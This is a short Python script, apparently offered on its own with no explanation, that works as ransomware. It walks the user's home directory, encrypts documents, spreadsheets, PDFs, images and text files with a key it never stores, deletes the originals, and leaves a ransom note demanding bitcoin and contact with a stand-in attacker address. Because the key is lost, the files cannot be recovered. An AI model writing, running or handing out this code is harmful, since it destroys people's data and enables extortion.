import os
from pathlib import Path

from cryptography.fernet import Fernet

key = Fernet.generate_key()
box = Fernet(key)
for f in Path.home().rglob("*"):
    if f.is_file() and f.suffix.lower() in {".docx", ".xlsx", ".pdf", ".jpg", ".png", ".txt", ".md"}:
        try:
            f.with_suffix(f.suffix + ".locked").write_bytes(box.encrypt(f.read_bytes()))
            os.remove(f)
        except OSError:
            pass
(Path.home() / "README_RESTORE.txt").write_text("Your files are encrypted. Send 0.05 BTC to bc1qexampleexampleexample and mail restore@attacker.example\n")
